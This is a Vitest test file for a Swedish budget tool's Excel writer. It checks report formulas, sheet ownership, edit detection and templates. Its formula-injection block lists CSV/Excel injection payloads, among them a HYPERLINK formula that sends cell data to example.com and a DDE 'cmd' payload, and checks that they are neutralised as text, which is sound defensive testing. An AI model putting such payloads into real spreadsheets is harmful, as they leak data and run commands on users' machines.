import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { calculatePrognosis } from "../../../src/core/prognosis";
import { buildPrognosisSheet, PROGNOSIS_SHEET } from "../../../src/report/prognosisSheet";
import { REGISTRY_SHEET } from "../../../src/report/meta";
import { buildActionPlanTemplate, buildForecastTemplate } from "../../../src/report/templates";
import { ExcelJsWriter, sheetContents } from "../../../src/workbook/exceljs/writer";
import { WriteRefused } from "../../../src/workbook/writeChecks";
import { fingerprintCells, parseRegistry } from "../../../src/report/meta";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openWorkbook, saveWorkbook } from "../../../src/workbook/exceljs/file";
import { HERRLJUNGA_META, herrljungaInput, herrljungaPrognosis } from "../../report/herrljunga";

const report = () => buildPrognosisSheet(herrljungaPrognosis(), HERRLJUNGA_META);

async function roundTrip(wb: ExcelJS.Workbook): Promise<ExcelJS.Workbook> {
  const buffer = await wb.xlsx.writeBuffer();
  const back = new ExcelJS.Workbook();
  await back.xlsx.load(buffer as ArrayBuffer);
  return back;
}

async function written(layouts = [report()]): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await new ExcelJsWriter(wb, () => "2021-09-10T08:00:00").writeSheets(layouts, { onEdited: "fail" });
  return roundTrip(wb);
}

describe("ExcelJsWriter: the Herrljunga report in a file", () => {
  it("writes a real Excel table with formulas, cached results and tkr formats", async () => {
    const ws = (await written()).getWorksheet(PROGNOSIS_SHEET)!;
    expect(ws.getCell("A1").value).toBe("Prognos per ansvar 2021, utfall t.o.m. augusti (tkr)");
    expect(ws.getCell("A1").font).toMatchObject({ name: "Calibri", size: 14, bold: true });
    expect(ws.getTables().length).toBe(1);
    expect(ws.getCell("B6").value).toBe("Benämning");
    // Row 14: Individ och familjeomsorg, the subtotal under 420-422.
    expect(ws.getCell("B14").value).toBe("Individ och familjeomsorg");
    expect(ws.getCell("G14").value).toEqual({ formula: "SUM(G11:G13)", result: 44_398_000 });
    expect(ws.getCell("I14").value).toEqual({ formula: "G14-H14", result: -2_050_000 });
    expect(ws.getCell("I14").numFmt).toBe("[>=0]#,##0,;[<=-500]-#,##0,;#,##0,");
    expect(ws.getCell("G30").value).toEqual({ formula: "SUM(G8,G10,G14,G24,G29)", result: 216_123_000 });
    expect(ws.getCell("E11").value).toBe(2_451_000);
    expect(ws.getCell("E11").font).toMatchObject({ name: "Calibri", size: 11 });
    expect(ws.getCell("B11").alignment?.indent).toBe(1);
    expect(ws.getCell("B14").font?.bold).toBe(true);
  });

  it("freezes the header, groups the ansvar under their verksamhet and colours the variances", async () => {
    const ws = (await written()).getWorksheet(PROGNOSIS_SHEET)!;
    expect(ws.views[0]).toMatchObject({ state: "frozen", xSplit: 2, ySplit: 6 });
    expect(ws.getRow(11).outlineLevel).toBe(1);
    expect(ws.getRow(14).outlineLevel ?? 0).toBe(0);
    expect(ws.properties.outlineProperties).toMatchObject({ summaryBelow: true });
    expect(ws.getColumn(2).width).toBe(34);
    const cf = (
      ws as unknown as { conditionalFormattings: { ref: string; rules: { operator: string; formulae: string[] }[] }[] }
    ).conditionalFormattings;
    // The two avvikelse columns and the change since the previous forecast (+ = better, coloured as a variance).
    expect(cf.map((c) => c.ref)).toEqual(["F7:F30", "I7:I30", "J7:J30"]);
    expect(cf[0]!.rules.map((r) => r.operator)).toEqual(["lessThan", "greaterThan"]);
  });

  it("registers its sheet in a very hidden registry with the fingerprint of what it wrote", async () => {
    const wb = await written();
    const registry = wb.getWorksheet(REGISTRY_SHEET)!;
    expect(registry.state).toBe("veryHidden");
    const values = registry
      .getSheetValues()
      .filter(Boolean)
      .map((r) => (r as unknown[]).slice(1) as (string | null)[]);
    const entries = parseRegistry(values);
    expect(entries.map((e) => [e.sheet, e.written])).toEqual([[PROGNOSIS_SHEET, "2021-09-10T08:00:00"]]);
    expect(fingerprintCells(sheetContents(wb.getWorksheet(PROGNOSIS_SHEET)!))).toBe(entries[0]!.fingerprint);
  });
});

describe("ExcelJsWriter: only its own sheets", () => {
  it("refuses to touch a user's sheet of the same name, and writes nothing at all", async () => {
    const wb = new ExcelJS.Workbook();
    const mine = wb.addWorksheet(PROGNOSIS_SHEET);
    mine.getCell("A1").value = "Mina egna anteckningar";
    const template = buildForecastTemplate(herrljungaPrognosis(), { key: "42" });
    const write = new ExcelJsWriter(wb).writeSheets([template, report()], { onEdited: "replace" });
    await expect(write).rejects.toThrow(WriteRefused);
    await expect(write).rejects.toThrow(
      'Inget skrevs: Bladet "Prognos per ansvar" finns redan och är inte skapat av Budgetkoll; byt namn på ditt blad eller ta bort det, så skriver Budgetkoll sitt.',
    );
    expect(wb.worksheets.map((w) => w.name)).toEqual([PROGNOSIS_SHEET]);
    expect(wb.getWorksheet(PROGNOSIS_SHEET)!.getCell("A1").value).toBe("Mina egna anteckningar");
  });

  it("replaces its own sheet on a re-run, in the same place among the user's sheets", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("Indata").getCell("A1").value = "ledger";
    await new ExcelJsWriter(wb).writeSheets([report()], { onEdited: "fail" });
    wb.addWorksheet("Egen analys");
    const again = await roundTrip(wb);
    const input = herrljungaInput();
    const changed = calculatePrognosis({
      ...input,
      forecasts: input.forecasts!.map((f) => (f.costCentre === "422" ? { ...f, forecast: f.forecast + 500_000 } : f)),
    });
    const result = await new ExcelJsWriter(again).writeSheets(
      [buildPrognosisSheet(changed, { ...HERRLJUNGA_META, runDate: "2021-10-12" })],
      { onEdited: "fail" },
    );
    expect(result).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
    const back = await roundTrip(again);
    expect(back.worksheets.filter((w) => w.state === "visible").map((w) => w.name)).toEqual([
      "Indata",
      PROGNOSIS_SHEET,
      "Egen analys",
    ]);
    expect(back.getWorksheet(PROGNOSIS_SHEET)!.getCell("I14").value).toEqual({
      formula: "G14-H14",
      result: -2_550_000,
    });
    expect(back.getWorksheet("Indata")!.getCell("A1").value).toBe("ledger");
  });

  it("notices a user's edit of its sheet, and onEdited decides: fail, keep or replace", async () => {
    const wb = await written();
    await expect(new ExcelJsWriter(wb).editedSheets([PROGNOSIS_SHEET, "Indata"])).resolves.toEqual([]);
    wb.getWorksheet(PROGNOSIS_SHEET)!.getCell("L11").value = "Min kommentar";
    const edited = await roundTrip(wb);
    // Learnt before writing, for the edge to ask: our sheet, edited ("Indata" is the user's own, "Saknas" absent).
    await expect(
      new ExcelJsWriter(edited).editedSheets([PROGNOSIS_SHEET.toUpperCase(), "Indata", "Saknas"]),
    ).resolves.toEqual([PROGNOSIS_SHEET]);
    await expect(new ExcelJsWriter(edited).writeSheets([report()], { onEdited: "fail" })).rejects.toThrow(
      'Inget skrevs: Bladet "Prognos per ansvar" har ändrats sedan Budgetkoll skrev det; spara dina ändringar på ett eget blad eller välj att ersätta det.',
    );
    expect(await new ExcelJsWriter(edited).writeSheets([report()], { onEdited: "keep" })).toEqual({
      written: [],
      keptEdited: [PROGNOSIS_SHEET],
    });
    expect(edited.getWorksheet(PROGNOSIS_SHEET)!.getCell("L11").value).toBe("Min kommentar");
    // A sheet the caller has merged the edits of (the commentary) is written over in the same call, whatever onEdited.
    const mergedToo = await roundTrip(edited);
    expect(
      await new ExcelJsWriter(mergedToo).writeSheets([report()], {
        onEdited: "fail",
        merged: [PROGNOSIS_SHEET.toLowerCase()],
      }),
    ).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
    expect(await new ExcelJsWriter(edited).writeSheets([report()], { onEdited: "replace" })).toEqual({
      written: [PROGNOSIS_SHEET],
      keptEdited: [],
    });
    expect(edited.getWorksheet(PROGNOSIS_SHEET)!.getCell("L11").value).toBeNull();
  });

  it("forgets a sheet the user deleted, so a user's new sheet of that name is never taken for ours", async () => {
    const wb = await written();
    await new ExcelJsWriter(wb).writeSheets([buildForecastTemplate(herrljungaPrognosis(), { key: "42" })], {
      onEdited: "fail",
    });
    wb.removeWorksheet(wb.getWorksheet(PROGNOSIS_SHEET)!.id);
    await new ExcelJsWriter(wb).writeSheets([buildForecastTemplate(herrljungaPrognosis(), { key: "44" })], {
      onEdited: "fail",
    });
    wb.addWorksheet(PROGNOSIS_SHEET).getCell("A1").value = "Användarens blad";
    await expect(new ExcelJsWriter(wb).writeSheets([report()], { onEdited: "replace" })).rejects.toThrow(
      "finns redan och är inte skapat av Budgetkoll",
    );
    expect(wb.getWorksheet(PROGNOSIS_SHEET)!.getCell("A1").value).toBe("Användarens blad");
  });

  it("leaves the old output intact when building the new output fails half-way", async () => {
    const wb = await written();
    const before = fingerprintCells(sheetContents(wb.getWorksheet(PROGNOSIS_SHEET)!));
    const add = wb.addWorksheet.bind(wb);
    let calls = 0;
    wb.addWorksheet = ((name: string, options?: Partial<ExcelJS.AddWorksheetOptions>) => {
      if (++calls === 2) throw new Error("disken full");
      return add(name, options);
    }) as typeof wb.addWorksheet;
    await expect(
      new ExcelJsWriter(wb).writeSheets([buildForecastTemplate(herrljungaPrognosis()), report()], { onEdited: "fail" }),
    ).rejects.toThrow("disken full");
    expect(wb.worksheets.map((w) => w.name)).toEqual([PROGNOSIS_SHEET, REGISTRY_SHEET]);
    expect(fingerprintCells(sheetContents(wb.getWorksheet(PROGNOSIS_SHEET)!))).toBe(before);
  });

  it("does not call a formatting change an edit", async () => {
    const wb = await written();
    wb.getWorksheet(PROGNOSIS_SHEET)!.getColumn(2).width = 50;
    const back = await roundTrip(wb);
    expect(await new ExcelJsWriter(back).writeSheets([report()], { onEdited: "fail" })).toEqual({
      written: [PROGNOSIS_SHEET],
      keptEdited: [],
    });
  });

  it("refuses bad layouts before writing anything", async () => {
    const wb = new ExcelJS.Workbook();
    const l = report();
    await expect(new ExcelJsWriter(wb).writeSheets([l, { ...l, name: "Kopia" }], { onEdited: "fail" })).rejects.toThrow(
      'Tabellen "Budgetkoll_Prognos" finns redan i arbetsboken.',
    );
    await expect(
      new ExcelJsWriter(wb).writeSheets([{ ...l, name: "Prognos/ansvar" }], { onEdited: "fail" }),
    ).rejects.toThrow("går inte att använda i Excel");
    expect(wb.worksheets).toEqual([]);
  });
});

describe("ExcelJsWriter: formula injection", () => {
  const attacks = [
    '=HYPERLINK("http://example.com/?q="&A1,"Klicka")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
  ];

  it("writes comments that look like formulas as text, and reads them back unchanged", async () => {
    const input = herrljungaInput();
    const forecasts = input.forecasts!.map((f, i) => ({ ...f, comment: attacks[i % attacks.length] }));
    const wb = await written([buildPrognosisSheet(calculatePrognosis({ ...input, forecasts }), HERRLJUNGA_META)]);
    const ws = wb.getWorksheet(PROGNOSIS_SHEET)!;
    const comments: unknown[] = [];
    ws.getColumn(12).eachCell((cell, row) => {
      if (row <= 6 || cell.value === null) return;
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      comments.push(cell.value);
    });
    // A carriage return is written as Excel's line break (XML would turn it into one anyway).
    expect(comments.slice(0, attacks.length)).toEqual(attacks.map((a) => a.replace("\r", "\n")));
    expect(ws.getCell("L7").numFmt).toBe("@");
  });

  it("keeps a formula-like ansvar name text too", async () => {
    const input = herrljungaInput();
    const costCentres = input.costCentres.map((c) => (c.key === "420" ? { ...c, name: "=1+1" } : c));
    const ws = (
      await written([buildPrognosisSheet(calculatePrognosis({ ...input, costCentres }), HERRLJUNGA_META)])
    ).getWorksheet(PROGNOSIS_SHEET)!;
    expect(ws.getCell("B11").value).toBe("=1+1");
    expect(ws.getCell("B11").type).toBe(ExcelJS.ValueType.String);
  });
});

describe("ExcelJsWriter: templates", () => {
  it("writes the forecast template protected, with only Prognos and Kommentar unlocked and validated", async () => {
    const ws = (await written([buildForecastTemplate(herrljungaPrognosis(), { key: "42" })])).getWorksheet("Prognos")!;
    expect(ws.getCell("A1").value).toBe("Prognos 2021 efter augusti: Individ och familjeomsorg (42)");
    expect(String(ws.getCell("A2").value)).toMatch(/^Fyll i Prognos helår/);
    expect([1, 2, 3, 4, 5, 6].map((c) => ws.getRow(3).getCell(c).value)).toEqual([
      "Ansvar",
      "Benämning",
      "Budget helår (tkr)",
      "Utfall t.o.m. period (tkr)",
      "Prognos helår (tkr)",
      "Kommentar",
    ]);
    expect([1, 2, 3, 4, 5, 6].map((c) => ws.getRow(4).getCell(c).value)).toEqual([
      "420",
      "Individ och familjeomsorg",
      2062,
      2451,
      null,
      null,
    ]);
    expect(ws.getCell("C4").protection?.locked).not.toBe(false);
    expect(ws.getCell("E4").protection?.locked).toBe(false);
    expect(ws.getCell("F6").protection?.locked).toBe(false);
    expect(ws.getCell("E4").dataValidation).toMatchObject({
      type: "whole",
      operator: "between",
      formulae: [-999999999, 999999999],
      showErrorMessage: true,
    });
    expect(ws.getCell("E4").dataValidation.error).toBe(
      "Skriv beloppet som ett helt antal tkr, utan decimaler och text, t.ex. 1250 eller -300.",
    );
    const protection = (ws as unknown as { sheetProtection: Record<string, unknown> }).sheetProtection;
    expect(protection).toMatchObject({ sheet: true });
    expect(protection.hashValue).toBeUndefined();
  });

  it("writes the åtgärdsplan template with status and Ja/Nej lists", async () => {
    const layout = buildActionPlanTemplate(
      2021,
      [
        {
          id: "1",
          owner: "SoV",
          description: "Minska inhyrd personal",
          status: "started",
          plannedEffect: 1_200_000,
          includedInForecast: false,
        },
      ],
      3,
    );
    const ws = (await written([layout])).getWorksheet("Åtgärder")!;
    expect(ws.getRow(4).getCell(5).value).toBe("Påbörjad");
    expect(ws.getRow(4).getCell(6).value).toBe(1200);
    expect(ws.getCell("E4").dataValidation).toMatchObject({
      type: "list",
      formulae: ['"Ej påbörjad,Påbörjad,Genomförd,Ej genomförd"'],
    });
    expect(ws.getCell("I5").dataValidation).toMatchObject({ type: "list", formulae: ['"Ja,Nej"'] });
    expect(ws.getCell("A4").protection?.locked).not.toBe(false);
    expect(ws.getCell("A5").protection?.locked).toBe(false);
  });
});

describe("open and save helpers", () => {
  it("opens a missing file as an empty workbook, saves without leaving a temporary file, and reopens it", async () => {
    const dir = mkdtempSync(join(tmpdir(), "budgetkoll-file-"));
    const path = join(dir, "rapport.xlsx");
    const wb = await openWorkbook(path);
    expect(wb.worksheets).toEqual([]);
    await new ExcelJsWriter(wb).writeSheets([report()], { onEdited: "fail" });
    await saveWorkbook(wb, path);
    expect(readdirSync(dir)).toEqual(["rapport.xlsx"]);
    const again = await openWorkbook(path);
    expect(again.getWorksheet(PROGNOSIS_SHEET)!.getCell("I14").value).toEqual({
      formula: "G14-H14",
      result: -2_050_000,
    });
    rmSync(dir, { recursive: true, force: true });
  });

  it("says in Swedish when a file is not a workbook", async () => {
    const dir = mkdtempSync(join(tmpdir(), "budgetkoll-file-"));
    const path = join(dir, "inte.xlsx");
    writeFileSync(path, "ansvar;belopp\n400;100\n");
    await expect(openWorkbook(path)).rejects.toThrow(
      "Filen inte.xlsx går inte att läsa som en Excel-arbetsbok (.xlsx): den ser ut att vara en textfil (CSV), inte en Excel-arbetsbok: ge den ändelsen .csv, eller spara den som .xlsx i Excel.",
    );
    rmSync(dir, { recursive: true, force: true });
  });
});
